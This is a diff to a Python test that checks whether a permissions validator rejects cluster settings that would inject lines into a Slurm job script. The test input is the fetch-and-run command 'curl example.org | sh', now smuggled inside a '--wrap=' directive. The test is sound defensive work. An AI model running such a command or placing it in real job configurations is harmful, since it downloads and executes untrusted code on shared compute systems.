@@ -50,7 +50,7 @@ def test_a_form_writes_no_lines_of_a_job_script() -> None:
     """They run code, also where the kind is allowed for study files."""
     permissions = Permissions(("models.net:fit",), clusters=("slurm",))
     with pytest.raises(SpecError, match=r"form.cluster = .* must be one of \{local: \{...\}\}, \{address"):
-        made(permissions, cluster={"slurm": {"prologue": ["curl example.org | sh"]}})
+        made(permissions, cluster={"slurm": {"directives": ["--wrap=curl example.org | sh"]}})
 
 
 def test_everything_of_a_study_file_is_said_in_a_form(permissions: Permissions) -> None:
